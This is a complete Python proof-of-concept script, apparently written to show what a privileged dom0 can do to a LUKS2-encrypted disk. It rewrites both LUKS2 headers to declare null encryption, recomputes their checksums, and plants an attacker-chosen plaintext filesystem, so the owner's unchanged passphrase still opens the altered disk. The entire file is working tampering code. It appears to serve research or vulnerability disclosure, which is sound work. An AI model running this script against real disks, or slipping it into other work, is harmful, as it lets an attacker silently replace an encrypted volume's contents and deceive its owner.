#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""What dom0 can do to an encrypted disk without its passphrase.

lukslie.py DISK FILESYSTEM

The LUKS2 header on DISK says from now on that the data are not encrypted, and
there FILESYSTEM lies.  Slots and key stay: the owner's passphrase opens it.
Only a checksum protects the header (LUKS2 On-Disk Format Specification 1.1).
"""
import hashlib
import json
import sys

FIXED, CSUM, CSUM_LEN = 4096, 448, 64


def lie(disk, at):
    size = int.from_bytes(disk[at + 8:at + 16], "big")
    text = bytes(disk[at + FIXED:at + size]).rstrip(b"\0")
    header = json.loads(text)
    for segment in header["segments"].values():
        segment["encryption"] = "cipher_null-ecb"
    text = json.dumps(header, separators=(",", ":")).encode()
    disk[at + FIXED:at + size] = text.ljust(size - FIXED, b"\0")
    disk[at + CSUM:at + CSUM + CSUM_LEN] = bytes(CSUM_LEN)
    digest = hashlib.sha256(disk[at:at + size]).digest()
    disk[at + CSUM:at + CSUM + len(digest)] = digest
    return size, int(header["segments"]["0"]["offset"])


disk = bytearray(open(sys.argv[1], "rb").read())
assert disk[:6] == b"LUKS\xba\xbe"
size, data = lie(disk, 0)
assert disk[size:size + 6] == b"SKUL\xba\xbe"
lie(disk, size)
plain = open(sys.argv[2], "rb").read()
disk[data:data + len(plain)] = plain
open(sys.argv[1], "wb").write(disk)
